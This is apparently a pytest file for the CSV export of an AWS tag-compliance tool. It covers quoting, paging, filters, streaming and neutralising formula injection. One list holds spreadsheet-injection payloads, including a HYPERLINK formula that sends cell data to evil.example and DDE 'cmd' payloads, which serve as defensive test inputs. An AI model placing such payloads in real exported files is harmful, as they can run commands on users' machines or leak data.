"""CSV export: columns, RFC 4180 quoting, formula-injection neutralisation, pages, filters, streaming."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tagcompliance.compliance import Resource, Violation, compile_policy, evaluate
from tagcompliance.errors import InvalidInputError
from tagcompliance.export import (
    DEFAULT_COLUMNS,
    EXPORT_COLUMNS,
    FORMULA_PREFIXES,
    export_violations,
    neutralise,
)
from tagcompliance.policy import parse_policy
from tagcompliance.reports import VIOLATION_COLUMNS
from tagcompliance.resources import RESOURCE_TYPE_IDS

POLICY = parse_policy(
    {
        "required_tags": [
            {"name": "CostCenter", "allowed_values": ["CC-1001"]},
            {"name": "Owner", "validation_regex": "^[a-z]+@example\\.com$"},
            {"name": "Environment", "allowed_values": ["production", "staging"]},
        ],
        "prohibited_tags": ["Temp"],
    }
)
ACCOUNT = "123456789012"


def ec2(number: int, tags: dict[str, str], region: str = "us-east-1") -> Resource:
    iid = f"i-{number:017x}"
    return Resource(
        f"arn:aws:ec2:{region}:{ACCOUNT}:instance/{iid}", "ec2:instance", region, ACCOUNT, iid, tags
    )


def bucket(name: str, tags: dict[str, str]) -> Resource:
    return Resource(f"arn:aws:s3:::{name}", "s3:bucket", "eu-west-1", ACCOUNT, name, tags)


def sample() -> list[Violation]:
    resources = [
        ec2(1, {"CostCenter": "CC-1001", "Owner": "ana@example.com", "Environment": "prod"}),
        ec2(
            2,
            {"CostCenter": "CC-1001", "owner": "ana@example.com", "Environment": "staging", "Temp": "x"},
            "us-west-2",
        ),
        bucket(
            "logs", {"CostCenter": "CC-1001", "Owner": 'Ana, "the" owner\nline 2', "Environment": "staging"}
        ),
    ]
    return evaluate(resources, compile_policy(POLICY, RESOURCE_TYPE_IDS)).violations


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_default_columns_reuse_the_report_columns() -> None:
    page = export_violations(sample(), limit=100)
    assert tuple(page.columns) == DEFAULT_COLUMNS == VIOLATION_COLUMNS
    table = parse(page.data or "")
    assert table[0] == list(VIOLATION_COLUMNS)
    assert len(table) == 1 + page.row_count == 1 + page.rows_written == 5
    assert page.next_offset is None and page.format == "csv"


def test_chosen_columns_with_alias_account_and_expected() -> None:
    page = export_violations(
        sample(),
        columns=["resource_arn", "violation", "tag_key", "actual_key", "account_id", "expected", "severity"],
        policy=POLICY,
        account_id=ACCOUNT,
        limit=100,
    )
    table = parse(page.data or "")
    assert table[0] == [
        "resource_arn",
        "violation",
        "tag_key",
        "actual_key",
        "account_id",
        "expected",
        "severity",
    ]
    rows = {(r[1], r[2]): r for r in table[1:]}
    assert rows[("wrong_key_case", "Owner")][3] == "owner"
    assert (
        rows[("invalid_value", "Environment")][5] == "key exactly 'Environment'; one of production, staging"
    )
    assert rows[("prohibited_tag", "Temp")][5:] == ["tag must not be present", "warning"]
    assert all(r[4] == ACCOUNT for r in table[1:])  # S3 ARNs carry no account: the argument fills it


def test_every_documented_column_exports() -> None:
    page = export_violations(sample(), columns=list(EXPORT_COLUMNS), policy=POLICY, limit=100)
    assert parse(page.data or "")[0] == list(EXPORT_COLUMNS)


def test_rfc4180_quoting_and_crlf() -> None:
    page = export_violations(
        sample(), columns=["resource_arn", "current_value"], violation_types=["invalid_format"], limit=10
    )
    text = page.data or ""
    assert text == ('resource_arn,current_value\r\narn:aws:s3:::logs,"Ana, ""the"" owner\nline 2"\r\n')
    assert parse(text)[1] == ["arn:aws:s3:::logs", 'Ana, "the" owner\nline 2']


MALICIOUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", MALICIOUS)
def test_formula_injection_is_neutralised(value: str) -> None:
    resource = ec2(1, {"CostCenter": "CC-1001", "Owner": value, "Environment": "production"})
    violations = evaluate([resource], compile_policy(POLICY, ["ec2:instance"])).violations
    page = export_violations(violations, columns=["tag_key", "current_value"], limit=10)
    cell = parse(page.data or "")[1][1]
    assert cell == "'" + value
    assert not cell.startswith(FORMULA_PREFIXES)


def test_neutralise_leaves_ordinary_text_alone() -> None:
    for value in ["production", "ana@example.com", "CC-1001", "a=b", "", "'quoted"]:
        assert neutralise(value) == value
    assert neutralise("=1") == "'=1"


def test_filters() -> None:
    violations = sample()

    def kinds(**filters: Any) -> list[tuple[str, str]]:
        page = export_violations(violations, columns=["violation_type", "tag_key"], limit=100, **filters)
        return [tuple(row) for row in parse(page.data or "")[1:]]  # type: ignore[misc]

    assert kinds(severity="warnings_only") == [("prohibited_tag", "Temp")]
    assert ("prohibited_tag", "Temp") not in kinds(severity="errors_only")
    assert len(kinds(severity="errors_only")) == 3
    assert kinds(resource_types=["s3:bucket"]) == [("invalid_format", "Owner")]
    assert kinds(regions=["us-west-2"]) == [("wrong_key_case", "Owner"), ("prohibited_tag", "Temp")]
    assert kinds(violation_types=["invalid_value", "wrong_key_case"]) == [
        ("invalid_value", "Environment"),
        ("wrong_key_case", "Owner"),
    ]
    assert len(kinds(resource_types=["all"], regions=["all"], violation_types=[])) == 4
    assert kinds(severity="warnings_only", regions=["us-east-1"]) == []


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        (
            {"columns": ["resource_arn", "colour", "sevrity"]},
            "unknown column(s): 'colour', 'sevrity'; valid columns: resource_arn,",
        ),
        ({"columns": []}, "non-empty"),
        ({"columns": "resource_arn"}, "non-empty"),
        ({"columns": ["violation", "violation_type"]}, "more than once"),
        ({"severity": "errors"}, "severity must be one of all, errors_only, warnings_only"),
        ({"resource_types": ["ec2:instanse"]}, "unknown resource type"),
        ({"regions": ["us-east"]}, "not AWS region names"),
        ({"violation_types": ["missing"]}, "unknown violation type(s): 'missing'; valid types: missing_tag"),
        ({"offset": -1}, "offset"),
        ({"limit": 0}, "limit"),
        ({"limit": None}, "limit is required"),
    ],
)
def test_bad_input(kwargs: dict[str, Any], message: str) -> None:
    arguments: dict[str, Any] = {"limit": 10, **kwargs}
    with pytest.raises(InvalidInputError) as caught:
        export_violations(sample(), **arguments)
    assert message in str(caught.value)


def test_unknown_column_error_lists_every_valid_column_and_the_alias() -> None:
    with pytest.raises(InvalidInputError) as caught:
        export_violations(sample(), columns=["nope"], limit=1)
    for name in [*EXPORT_COLUMNS, "violation"]:
        assert name in str(caught.value)


def test_expected_needs_the_policy() -> None:
    with pytest.raises(ValueError, match="policy"):
        export_violations(sample(), columns=["expected"], limit=1)


def generated(count: int) -> Iterator[Violation]:
    types = ("missing_tag", "invalid_value", "wrong_key_case", "prohibited_tag")
    for n in range(count):
        kind = types[n % 4]
        yield Violation(
            f"arn:aws:ec2:us-east-1:{ACCOUNT}:instance/i-{n:017x}",
            "ec2:instance",
            "us-east-1",
            kind,
            "Owner",
            f"={n}" if n % 7 == 0 else f"value-{n}",
            "warning" if kind == "prohibited_tag" else "error",
        )


@pytest.mark.parametrize(
    ("offset_step", "filters"),
    [(7, {}), (3, {"severity": "errors_only"}), (50, {"violation_types": ["wrong_key_case"]})],
)
def test_pages_cover_every_row_exactly_once(offset_step: int, filters: dict[str, Any]) -> None:
    total = 103
    expected = parse(export_violations(generated(total), limit=10_000, **filters).data or "")[1:]
    collected: list[list[str]] = []
    offset: int | None = 0
    pages = 0
    while offset is not None:
        page = export_violations(generated(total), offset=offset, limit=offset_step, **filters)
        assert page.row_count == len(expected) and page.offset == offset
        body = parse(page.data or "")
        assert body[0] == list(DEFAULT_COLUMNS)
        assert len(body) - 1 == page.rows_written <= offset_step
        collected.extend(body[1:])
        offset = page.next_offset
        pages += 1
    assert collected == expected
    assert pages == -(-len(expected) // offset_step)


def test_offset_past_the_end_is_an_empty_last_page() -> None:
    page = export_violations(generated(5), offset=50, limit=10)
    assert (page.row_count, page.rows_written, page.next_offset) == (5, 0, None)
    assert parse(page.data or "") == [list(DEFAULT_COLUMNS)]


def test_header_can_be_left_out_for_appending_pages() -> None:
    out = io.StringIO(newline="")
    export_violations(generated(3), out=out, limit=2)
    export_violations(generated(3), out=out, offset=2, limit=2, include_header=False)
    assert len(parse(out.getvalue())) == 4


class CountingFile:
    """A text file that counts the rows written to it (the csv module writes one row per call)."""

    def __init__(self, out: Any) -> None:
        self.out = out
        self.rows = 0

    def write(self, text: str) -> int:
        self.rows += text.count("\r\n")
        return self.out.write(text)


def test_streams_200k_violations_to_a_file_without_holding_them(tmp_path: Path) -> None:
    path = tmp_path / "violations.csv"
    count = 200_000
    largest_backlog = 0
    with path.open("w", encoding="utf-8", newline="") as raw:
        out = CountingFile(raw)

        def watched() -> Iterator[Violation]:
            # Each violation is pulled only once the previous one is written: nothing is collected.
            nonlocal largest_backlog
            for produced, violation in enumerate(generated(count)):
                largest_backlog = max(largest_backlog, produced - (out.rows - 1))
                yield violation

        page = export_violations(
            watched(), out=out, columns=["resource_arn", "violation", "current_value", "severity"]
        )  # type: ignore[arg-type]
    assert (page.row_count, page.rows_written, page.next_offset, page.data) == (count, count, None, None)
    assert largest_backlog <= 1
    with path.open(encoding="utf-8", newline="") as written:
        reader = csv.reader(written)
        assert next(reader) == ["resource_arn", "violation", "current_value", "severity"]
        rows = sum(1 for _ in reader)
    assert rows == count
    assert path.read_bytes().count(b"\r\n") == count + 1


def test_memory_stays_flat(tmp_path: Path) -> None:
    # 20,000 violations held in a list take about 5 MB; a streamed export needs about 160 KB
    # (the same for 100,000). A first small export loads what is imported lazily, outside the trace.
    export_violations(generated(3), out=io.StringIO(), columns=list(EXPORT_COLUMNS), policy=POLICY)
    tracemalloc.start()
    try:
        with (tmp_path / "v.csv").open("w", encoding="utf-8", newline="") as out:
            page = export_violations(generated(20_000), out=out, columns=list(EXPORT_COLUMNS), policy=POLICY)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert page.row_count == 20_000
    assert peak < 1_000_000, f"peak traced memory {peak} bytes"


def test_export_streamed_from_the_evaluation_equals_the_materialised_export() -> None:
    # The service exports from Evaluation.iter_violations (nothing kept); the bytes must be those of
    # the materialised list, for whole files and for every page with every filter.
    tag_maps = [
        {"CostCenter": "CC-1001", "Owner": "ana@example.com", "Environment": "production"},
        {"CostCenter": "=HYPERLINK(1)", "owner": "x", "Temp": "t"},
        {},
        {"CostCenter": "CC-1001", "Owner": "Bob", "Environment": "dev", "Temp": "+1"},
    ]
    resources = [ec2(n, dict(tag_maps[n % 4]), ("us-east-1", "eu-west-1")[n % 2]) for n in range(40)]
    resources += [bucket(f"b{n}", tag_maps[n % 4]) for n in range(10)]
    evaluation = evaluate(resources, compile_policy(POLICY, RESOURCE_TYPE_IDS))
    listed = list(evaluation.violations)
    options: list[dict[str, Any]] = [
        {},
        {"severity": "warnings_only"},
        {"violation_types": ["missing_tag", "wrong_key_case"], "regions": ["eu-west-1"]},
        {"columns": list(EXPORT_COLUMNS), "policy": POLICY, "account_id": ACCOUNT},
    ]
    for option in options:
        streamed, materialised = io.StringIO(), io.StringIO()
        a = export_violations(evaluation.iter_violations(), out=streamed, **option)
        b = export_violations(listed, out=materialised, **option)
        assert streamed.getvalue() == materialised.getvalue() and a == b
        for offset in (0, 7, 30):
            page = export_violations(evaluation.iter_violations(), offset=offset, limit=9, **option)
            assert page == export_violations(listed, offset=offset, limit=9, **option)
